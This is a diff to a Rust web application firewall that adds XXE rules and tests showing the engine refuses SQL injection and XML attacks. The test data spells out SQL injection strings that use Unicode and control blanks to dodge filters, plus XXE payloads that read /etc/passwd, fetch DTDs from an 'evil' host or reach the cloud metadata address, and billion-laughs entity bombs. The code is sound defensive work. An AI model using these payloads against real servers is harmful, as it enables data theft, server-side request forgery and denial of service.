@@ -351,6 +351,8 @@ pub const CODE_RULES: &[(&str, Category)] = &[
     ("rce-globbed-path", Category::Rce),
     ("sqli-constant-condition", Category::Sqli),
     ("ssrf-internal-address", Category::Ssrf),
+    ("xxe-external-entity", Category::Generic),
+    ("xxe-entity-expansion", Category::Generic),
     ("php-known-function", Category::Php),
     ("rfi-known-parameter", Category::Rfi),
     ("scanner-user-agent", Category::Scanner),
@@ -2235,6 +2237,251 @@ mod tests {
             "<p>O&#39;Brien &#x26; sons</p>",
         ] {
             assert_eq!(post_as("application/xml", benign.as_bytes()), None, "{benign}");
+        }
+    }
+
+    /// A request as `engine` sees it: the rule that refuses it, if any.
+    fn refused_by(
+        engine: &Engine,
+        method: &Method,
+        target: &str,
+        ct: Option<&str>,
+        body: &[u8],
+    ) -> Option<&'static str> {
+        let mut headers = HeaderMap::new();
+        if let Some(ct) = ct {
+            headers.insert(http::header::CONTENT_TYPE, ct.parse().unwrap());
+        }
+        engine
+            .inspect(&subject(method, target, &headers, body), &Switches::default())
+            .map(|f| f.rule)
+    }
+
+    /// Every blank MSSQL, MySQL or a Unicode-aware parser reads as a
+    /// space, percent-encoded in a query or a form, raw in a body, or
+    /// `\uXXXX` in JSON, in place of the spaces of an injection: found
+    /// as the same injection with spaces is.
+    #[test]
+    fn odd_blanks_between_words_hide_no_injection() {
+        let engine = Engine::new();
+        let blanks = [
+            "%01",
+            "%02",
+            "%08",
+            "%0e",
+            "%0f",
+            "%10",
+            "%11",
+            "%12",
+            "%1a",
+            "%1c",
+            "%1d",
+            "%1e",
+            "%1f",
+            "%a0",
+            "%A0",
+            "%85",
+            "%c2%a0",
+            "%C2%A0",
+            "%c2%85",
+            "%e3%80%80",
+            "%e2%80%83",
+            "%E2%80%80",
+            "%e2%80%8a",
+            "%e2%80%a8",
+            "%e2%80%a9",
+            "%e2%80%af",
+            "%e2%81%9f",
+            "%e1%9a%80",
+            "%ef%bb%bf",
+            "%2501",
+            "%25c2%25a0",
+        ];
+        let attacks = ["x'_union_select_password_from_users--", "1'_or_1=1--"];
+        for blank in blanks {
+            for attack in attacks {
+                let value = attack.replace('_', blank);
+                let target = format!("/?id={value}");
+                assert!(
+                    refused_by(&engine, &Method::GET, &target, None, b"").is_some(),
+                    "{target}"
+                );
+                let form = format!("id={value}");
+                for ct in [
+                    "application/x-www-form-urlencoded",
+                    "application/x-www-form-urlencoded; charset=iso-8859-1",
+                ] {
+                    let found = refused_by(&engine, &Method::POST, "/submit", Some(ct), form.as_bytes());
+                    assert!(found.is_some(), "{ct}: {form}");
+                }
+            }
+        }
+        // Raw bytes in a text body and `\u` escapes in JSON.
+        for blank in ["\u{1}", "\u{1f}", "\u{a0}", "\u{3000}", "\u{2003}", "\u{feff}"] {
+            let body = "1' union select password from users--".replace(' ', blank);
+            let found = refused_by(&engine, &Method::POST, "/submit", Some("text/plain"), body.as_bytes());
+            assert!(found.is_some(), "text: {body:?}");
+        }
+        for escape in ["\\u0001", "\\u00a0", "\\u00A0", "\\u3000", "\\u2003", "\\u0085"] {
+            let json = "{\"id\":\"x' union select password from users--\"}".replace(' ', escape);
+            let found = refused_by(
+                &engine,
+                &Method::POST,
+                "/api",
+                Some("application/json"),
+                json.as_bytes(),
+            );
+            assert!(found.is_some(), "json: {json}");
+        }
+        // Latin-1 bytes of a form as sent, unencoded.
+        let latin1 = b"id=1'\xa0or\xa01=1--";
+        let found = refused_by(
+            &engine,
+            &Method::POST,
+            "/submit",
+            Some("application/x-www-form-urlencoded; charset=iso-8859-1"),
+            latin1,
+        );
+        assert!(found.is_some());
+    }
+
+    /// Text that uses NBSP and other Unicode spaces as typography does
+    /// (French `prix : 10 €`, thin spaces in numbers) is still text.
+    #[test]
+    fn typographic_spaces_in_text_are_not_attacks() {
+        let engine = Engine::new();
+        for value in [
+            "prix%c2%a0:%c2%a010%c2%a0%e2%82%ac",
+            "l%27%c3%a9t%c3%a9%c2%a0:%c2%a0%c2%ab%c2%a0oui%c2%a0%c2%bb",
+            "1%e2%80%af000%e2%80%af000",
+            "voil%c3%a0%20le%20menu",
+            "caf%e9%a0cr%e8me",
+            "select%c2%a0a%c2%a0size",
+        ] {
+            let target = format!("/?q={value}");
+            assert_eq!(refused_by(&engine, &Method::GET, &target, None, b""), None, "{target}");
+        }
+        let json = "{\"note\":\"prix\\u00a0: 10\\u00a0\u{20ac}, l'\u{e9}t\u{e9}\u{a0}!\"}";
+        assert_eq!(
+            refused_by(
+                &engine,
+                &Method::POST,
+                "/api",
+                Some("application/json"),
+                json.as_bytes()
+            ),
+            None
+        );
+    }
+
+    /// A DOCTYPE that makes the XML parser fetch a file or URL (external
+    /// DTD or entity, parameter entity) or expand entities into entities
+    /// (billion laughs) is refused, in every XML type and spelling.
+    #[test]
+    fn xml_external_entities_and_entity_bombs_are_refused() {
+        let engine = Engine::new();
+        let external = [
+            "<?xml version=\"1.0\"?><!DOCTYPE a [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><a>&x;</a>",
+            "<!doctype a [<!entity x system \"file:///etc/passwd\">]><a>&x;</a>",
+            "<!DocType a[<!EnTiTy x SyStEm 'file:///etc/passwd'>]><a>&x;</a>",
+            "<?xml version=\"1.0\"?>\n<!DOCTYPE\na\n[\n  <!ENTITY\tx\tSYSTEM\n\"file:///etc/passwd\" >\n]>\n<a>&x;</a>",
+            "<!DOCTYPE a [<!ENTITY x PUBLIC \"-//A//B\" \"http://evil/x\">]><a>&x;</a>",
+            "<!DOCTYPE a [<!ENTITY % p SYSTEM \"http://evil/x.dtd\"> %p;]><a/>",
+            "<!DOCTYPE a [<!ENTITY %p SYSTEM \"http://evil/x.dtd\">%p;]><a/>",
+            "<!DOCTYPE a [<!-- > --><!ENTITY x SYSTEM \"http://169.254.169.254/\">]><a>&x;</a>",
+            "<!DOCTYPE a SYSTEM \"http://evil/x.dtd\"><a/>",
+            "<!DOCTYPE a PUBLIC \"-//W3C//DTD x//EN\" \"http://evil/x.dtd\"><a/>",
+            "\u{feff}<?xml version=\"1.0\"?><!DOCTYPE a SYSTEM 'file:///etc/passwd'><a/>",
+            "<a/><!DOCTYPE a [<!ENTITY x SYSTEM \"file:///etc/passwd\">",
+        ];
+        let bombs = [
+            "<?xml version=\"1.0\"?><!DOCTYPE lolz [<!ENTITY lol \"lol\"><!ENTITY lol2 \"&lol;&lol;&lol;&lol;\">\
+             <!ENTITY lol3 \"&lol2;&lol2;&lol2;&lol2;\">]><lolz>&lol3;</lolz>",
+            "<!doctype l [<!entity a 'aaaa'><!entity b '&a;&a;'>]><l>&b;</l>",
+        ];
+        // What follows a DOCTYPE is still read, however its subset is
+        // written; one left open is read to the end.
+        for body in [
+            "<!DOCTYPE a [<!-- it's -->]><a>1' union select password from users--</a>",
+            "<!DOCTYPE a [<!ELEMENT a ANY>]><a>1' union select password from users--</a>",
+            "<!DOCTYPE a [<!-- ' --><a>1' union select password from users--</a>",
+        ] {
+            let found = refused_by(
+                &engine,
+                &Method::POST,
+                "/soap",
+                Some("application/xml"),
+                body.as_bytes(),
+            );
+            assert!(
+                found.is_some_and(|r| r.starts_with("sqli") || r.starts_with("libinjection")),
+                "{body}: {found:?}"
+            );
+        }
+        for ct in [
+            "application/xml",
+            "text/xml",
+            "application/soap+xml",
+            "application/xml; charset=utf-8",
+        ] {
+            for body in external {
+                let found = refused_by(&engine, &Method::POST, "/soap", Some(ct), body.as_bytes());
+                assert_eq!(found, Some("xxe-external-entity"), "{ct}: {body}");
+            }
+            for body in bombs {
+                let found = refused_by(&engine, &Method::POST, "/soap", Some(ct), body.as_bytes());
+                assert_eq!(found, Some("xxe-entity-expansion"), "{ct}: {body}");
+            }
+        }
+    }
+
+    /// XML without a DOCTYPE, a DOCTYPE naming only the root, the W3C's
+    /// own public DTDs and an internal entity of plain text all pass.
+    #[test]
+    fn xml_without_external_entities_passes() {
+        let engine = Engine::new();
+        for (ct, body) in [
+            (
+                "application/soap+xml",
+                "<?xml version=\"1.0\"?><soap:Envelope xmlns:soap=\"http://www.w3.org/2003/05/soap-envelope\">\
+                 <soap:Body><m:GetPrice xmlns:m=\"https://example.org/prices\"><m:Item>Apples</m:Item></m:GetPrice>\
+                 </soap:Body></soap:Envelope>",
+            ),
+            (
+                "application/rss+xml",
+                "<?xml version=\"1.0\" encoding=\"UTF-8\"?><rss version=\"2.0\"><channel><title>News</title>\
+                 <link>https://example.org/</link><description>System and public news</description>\
+                 <item><title>Entity &amp; more</title><link>https://example.org/1</link></item></channel></rss>",
+            ),
+            (
+                "image/svg+xml",
+                "<svg xmlns=\"http://www.w3.org/2000/svg\" width=\"10\" height=\"10\"><rect width=\"10\" height=\"10\"/></svg>",
+            ),
+            (
+                "application/xhtml+xml",
+                "<!DOCTYPE html><html><body><p>system public</p></body></html>",
+            ),
+            ("application/xml", "<!doctype note><note>hello</note>"),
+            (
+                "application/xhtml+xml",
+                "<!DOCTYPE html PUBLIC \"-//W3C//DTD XHTML 1.0 Strict//EN\" \
+                 \"http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd\"><html><body><p>hi</p></body></html>",
+            ),
+            (
+                "application/xml",
+                "<!DOCTYPE a [<!ENTITY company \"ACME &amp; Co &#169;\"><!ELEMENT a (#PCDATA)>]><a>&company;</a>",
+            ),
+            // Names that are keywords elsewhere, and a comment with a quote.
+            (
+                "application/xml",
+                "<!DOCTYPE system [<!ENTITY public \"p\"><!-- it's > -->]><system>&public;</system>",
+            ),
+        ] {
+            assert_eq!(
+                refused_by(&engine, &Method::POST, "/feed", Some(ct), body.as_bytes()),
+                None,
+                "{body}"
+            );
         }
     }
 }
